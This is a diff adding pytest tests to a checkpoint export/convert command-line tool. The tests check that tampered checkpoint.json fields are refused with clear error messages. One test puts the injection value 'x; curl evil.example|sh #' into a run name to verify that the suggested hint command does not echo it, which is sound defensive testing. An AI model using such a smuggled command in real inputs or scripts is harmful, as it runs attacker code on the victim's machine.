@@ -65,6 +65,63 @@ def test_an_impossible_export_has_a_clear_message(root: Path, tmp_path: Path,
     assert (tmp_path / "full" / "file").read_text() == "mine"
 
 
+@pytest.mark.parametrize(("place", "value", "message"), [
+    ("step", -5, "step = -5: expected 0 or more"),
+    ("run.encoder", {}, "is damaged at run.encoder.model"),
+    ("run.encoder.dim", 7, "run.encoder.dim = 7: expected "),
+    ("run.image_size", 0, "run.image_size = 0: expected a multiple of "),
+    ("run.image_size", -64, "run.image_size = -64: expected a multiple of "),
+    ("run.image_size", 33, "run.image_size = 33: expected a multiple of "),
+    ("run.database", 5, "is damaged at run.database"),
+    ("run.first_stage", {"source": "first_stage", "sha256": "0", "channels": 4, "factor": 8, "scale": 1},
+     "run.first_stage.channels = 4: expected 3, those of the network"),
+    ("run.first_stage", {"source": "first_stage", "sha256": "0", "channels": 3, "factor": 0, "scale": 1},
+     "run.first_stage.factor = 0: expected 1 or more"),
+    ("ema.safetensors", None, "ema.safetensors is missing")])
+def test_a_folder_that_no_command_could_use_is_refused(
+        place: str, value: object, message: str, root: Path, tmp_path: Path,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    out = tmp_path / "carried"
+    assert main(["export", "small", "--out", str(out), "--root", str(root)]) == 0
+    about = json.loads((out / "checkpoint.json").read_text())
+    if value is None:
+        (out / place).unlink()
+    else:
+        *names, last = place.split(".")
+        part = about
+        for name in names:
+            part = part[name]
+        part[last] = value
+    (out / "checkpoint.json").write_text(json.dumps(about))
+    assert main(["convert", "other", "--checkpoint", str(out), "--root", str(root)]) == 2
+    said = capsys.readouterr().err
+    assert message in said and "hint: python -m jobs export " in said
+    assert not (root / "runs/other").exists()
+
+
+def test_the_name_in_an_exported_folder_is_no_part_of_a_command(root: Path, tmp_path: Path,
+                                                                capsys: pytest.CaptureFixture[str]) -> None:
+    out = tmp_path / "carried"
+    assert main(["export", "small", "--out", str(out), "--root", str(root)]) == 0
+    about = json.loads((out / "checkpoint.json").read_text())
+    about["step"] = -1
+    for name, shown in (("x; curl evil.example|sh #", "RUN"), ("small", "small")):
+        about["run"]["name"] = name
+        (out / "checkpoint.json").write_text(json.dumps(about))
+        assert main(["convert", "other", "--checkpoint", str(out), "--root", str(root)]) == 2
+        hint = capsys.readouterr().err.partition("\nhint: ")[2]
+        assert hint == f"python -m jobs export {shown} --out FOLDER --root {root}\n"
+
+
+def test_a_run_that_names_no_encoder_is_damaged(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    plan = root / "runs/small/plan.json"
+    document = json.loads(plan.read_text())
+    document["section"]["encoder"] = {}
+    plan.write_text(json.dumps(document))
+    assert _sample(root, "small") == 1
+    assert "the run small does not say which encoder it belongs to" in capsys.readouterr().err
+
+
 def test_a_folder_of_another_network_is_not_put_over_a_run(root: Path, tmp_path: Path) -> None:
     out = tmp_path / "carried"
     assert main(["export", "small", "--out", str(out), "--root", str(root)]) == 0
